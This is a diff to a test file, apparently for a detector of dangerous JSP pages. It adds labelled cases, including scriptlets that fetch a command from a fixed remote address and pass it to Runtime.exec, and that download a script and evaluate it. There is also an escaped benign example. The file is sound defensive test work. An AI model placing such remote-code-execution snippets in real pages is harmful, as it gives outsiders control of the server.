@@ -219,6 +219,21 @@ FLOWS = [
         ' FileItem f = (FileItem) i.next(); f.write(new File(request.getParameter("dir"), f.getName())); %>',
         UPLOAD,
     ),
+    (
+        "command read from a fixed remote address",
+        '<% java.net.URL u = new java.net.URL("http://203.0.113.9/c.txt");'
+        " java.io.BufferedReader r = new java.io.BufferedReader("
+        " new java.io.InputStreamReader(u.openStream()));"
+        " Runtime.getRuntime().exec(r.readLine()); %>",
+        CMD,
+    ),
+    (
+        "script read through a remote connection and evaluated",
+        '<% java.net.URLConnection c = new java.net.URL("https://203.0.113.9/j.js").openConnection();'
+        " String js = new String(c.getInputStream().readAllBytes());"
+        ' new javax.script.ScriptEngineManager().getEngineByName("js").eval(js); %>',
+        CODE,
+    ),
 ]
 
 
@@ -238,6 +253,13 @@ def test_reason_points_into_the_page() -> None:
 
 
 BENIGN = [
+    (
+        "remote status text printed escaped",
+        '<% java.net.URL u = new java.net.URL("https://status.example.org/health.txt");'
+        " java.io.BufferedReader r = new java.io.BufferedReader("
+        " new java.io.InputStreamReader(u.openStream()));"
+        ' String s = r.readLine(); out.print(s == null ? "down" : s.replace("<", "&lt;")); %>',
+    ),
     (
         "equals guard",
         '<% String m = request.getParameter("m"); if (m != null && m.equals("list")) '
